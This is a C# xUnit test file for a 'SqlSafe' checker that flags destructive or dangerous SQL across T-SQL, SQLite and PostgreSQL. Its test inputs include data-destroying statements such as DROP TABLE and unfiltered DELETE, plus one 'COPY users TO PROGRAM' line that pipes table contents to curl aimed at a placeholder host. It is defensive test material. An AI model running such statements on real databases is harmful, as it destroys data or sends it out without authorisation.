using System.Text.Json;
using LlmTasks.Verification;
using static LlmTasks.Tests.Verification.CheckRunner;

namespace LlmTasks.Tests.Verification;

public sealed class SqlSafeCheckTests
{
    private static CheckSpec Safe(string dialect, params string[] refuse) =>
        new() { Type = "SqlSafe", Dialect = dialect, Refuse = refuse.Length == 0 ? null : refuse };

    public static TheoryData<string> Dialects => new() { "TSql", "Sqlite", "PostgreSql" };

    [Theory]
    [MemberData(nameof(Dialects))]
    public void Refused_words_inside_strings_and_comments_do_not_count(string dialect)
    {
        const string sql = """
            -- DROP TABLE users; TRUNCATE logs
            SELECT 'DELETE FROM users; DROP TABLE users' AS note /* ALTER TABLE x; GRANT ALL */
            FROM users WHERE name = 'TRUNCATE';
            UPDATE users SET note = 'DROP' WHERE id = 7;
            """;
        var result = Passes(sql, Safe(dialect));
        Assert.Contains("2 ", result.Reason);
    }

    [Theory]
    [MemberData(nameof(Dialects))]
    public void Each_broken_rule_names_the_statement_number_line_and_kind(string dialect)
    {
        const string sql = "SELECT 1;\nDROP TABLE users;\nDELETE FROM logs;\nUPDATE users SET x = 1 WHERE 1 = 1;\nDELETE FROM logs WHERE id < 10;";
        var result = Fails(sql, Safe(dialect));
        Assert.Contains("3 statement(s) break", result.Reason);
        Assert.Contains("statement 2 (line 2, column 1, DROP TABLE): DROP TABLE is refused (Drop)", result.Reason);
        Assert.Contains("statement 3 (line 3, column 1, DELETE): DELETE without WHERE deletes every row (DeleteWithoutWhere)", result.Reason);
        Assert.Contains("statement 4 (line 4, column 1, UPDATE): UPDATE with a WHERE that names no column", result.Reason);
        Assert.DoesNotContain("statement 5", result.Reason);
        var details = JsonDocument.Parse(result.Details!).RootElement;
        Assert.Equal([2, 3, 4], details.EnumerateArray().Select(d => d.GetProperty("statement").GetInt32()));
        Assert.Equal(["Drop", "DeleteWithoutWhere", "UpdateWithoutWhere"], details.EnumerateArray().Select(d => d.GetProperty("rule").GetString()));
    }

    [Theory]
    [InlineData("TSql", "TRUNCATE TABLE logs;", "Truncate")]
    [InlineData("PostgreSql", "TRUNCATE logs;", "Truncate")]
    [InlineData("TSql", "ALTER TABLE users ADD age int;", "Alter")]
    [InlineData("Sqlite", "ALTER TABLE users ADD COLUMN age INTEGER;", "Alter")]
    [InlineData("PostgreSql", "ALTER TABLE users RENAME TO people;", "Alter")]
    [InlineData("TSql", "GRANT SELECT ON users TO reporting;", "Grant")]
    [InlineData("PostgreSql", "REVOKE ALL ON users FROM public;", "Revoke")]
    [InlineData("TSql", "DENY DELETE ON users TO intern;", "Deny")]
    [InlineData("TSql", "EXEC('DROP TABLE users');", "Dynamic")]
    [InlineData("TSql", "EXEC sp_executesql N'DELETE FROM users';", "Dynamic")]
    [InlineData("PostgreSql", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;", "Dynamic")]
    [InlineData("PostgreSql", "COPY users TO PROGRAM 'curl -d @- example.invalid';", "Dynamic")]
    [InlineData("Sqlite", "DROP INDEX IF EXISTS users_name;", "Drop")]
    public void The_default_rules_refuse_each_dangerous_kind(string dialect, string sql, string rule)
    {
        var result = Fails(sql, Safe(dialect));
        Assert.Contains($"({rule})", result.Reason);
        Assert.Contains("statement 1 (line 1", result.Reason);
    }

    [Theory]
    [InlineData("TSql", "IF 1 = 1 BEGIN DROP TABLE users; END", "inside IF")]
    [InlineData("TSql", "CREATE PROCEDURE wipe AS DELETE FROM users;", "inside CREATE PROCEDURE")]
    [InlineData("PostgreSql", "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone;", "inside SELECT")]
    [InlineData("PostgreSql", "EXPLAIN ANALYZE DELETE FROM users;", "inside EXPLAIN")]
    [InlineData("Sqlite", "CREATE TRIGGER t AFTER INSERT ON logs BEGIN DELETE FROM users; END;", "inside CREATE TRIGGER")]
    public void Nested_statements_are_checked_too(string dialect, string sql, string inside)
    {
        var reason = Fails(sql, Safe(dialect)).Reason!;
        Assert.Contains(inside, reason);
    }

    [Theory]
    [MemberData(nameof(Dialects))]
    public void Refuse_replaces_the_default_list(string dialect)
    {
        const string sql = "DROP TABLE old_users;\nDELETE FROM logs WHERE id < 10;";
        var onlyDelete = Fails(sql, Safe(dialect, "Delete"));
        Assert.Contains("statement 2", onlyDelete.Reason);
        Assert.DoesNotContain("statement 1", onlyDelete.Reason);
        Passes("DROP TABLE old_users;", Safe(dialect, "Insert", "Update"));
        Assert.Contains("(Insert)", Fails("INSERT INTO t (a) VALUES (1);", Safe(dialect, "insert")).Reason);
    }

    [Fact]
    public void Sql_that_does_not_parse_fails_as_unknowable()
    {
        var reason = Fails("DELET FROM users WHERE id = 1", Safe("Sqlite")).Reason!;
        Assert.Contains("does not parse as SQLite", reason);
        Assert.Contains("line 1, column 1", reason);
    }

    [Fact]
    public void A_TSql_join_that_names_columns_picks_rows_but_a_bare_FROM_does_not()
    {
        Passes("DELETE u FROM users AS u INNER JOIN banned AS b ON b.user_id = u.id;", Safe("TSql"));
        Fails("UPDATE u SET active = 0 FROM users AS u;", Safe("TSql"));
        Assert.Contains("(Alter)", Fails("CREATE OR ALTER VIEW v AS SELECT 1 AS one;", Safe("TSql")).Reason);
    }

    [Fact]
    public void Where_current_of_counts_as_a_where()
    {
        Passes("DELETE FROM users WHERE CURRENT OF user_cursor;", Safe("TSql"));
        Passes("UPDATE users SET x = 1 WHERE CURRENT OF c;", Safe("PostgreSql"));
    }

    [Fact]
    public void Unknown_rules_and_an_empty_Refuse_are_spec_errors()
    {
        var error = SpecError(Safe("Sqlite", "Drop", "Nuke"));
        Assert.Equal(ErrorIds.InvalidVerification, error.ErrorId);
        Assert.Contains("Refuse names unknown rule(s) 'Nuke'", error.Message);
        Assert.Contains("DeleteWithoutWhere", error.Message);
        Assert.Contains("Refuse is empty", SpecError(new CheckSpec { Type = "SqlSafe", Refuse = [] }).Message);
        Assert.Contains("Dialect 'MySql'", SpecError(new CheckSpec { Type = "SqlSafe", Dialect = "MySql" }).Message);
    }

    [Fact]
    public void Generic_uses_the_statements_of_the_dialect_that_parses_the_text()
    {
        Assert.Contains("T-SQL", Fails("SELECT TOP 1 * FROM [users]; TRUNCATE TABLE [logs];", Safe("Generic")).Reason);
        Assert.Contains("SQLite", Passes("SELECT * FROM users LIMIT 1;", Safe("Generic")).Reason);
    }
}
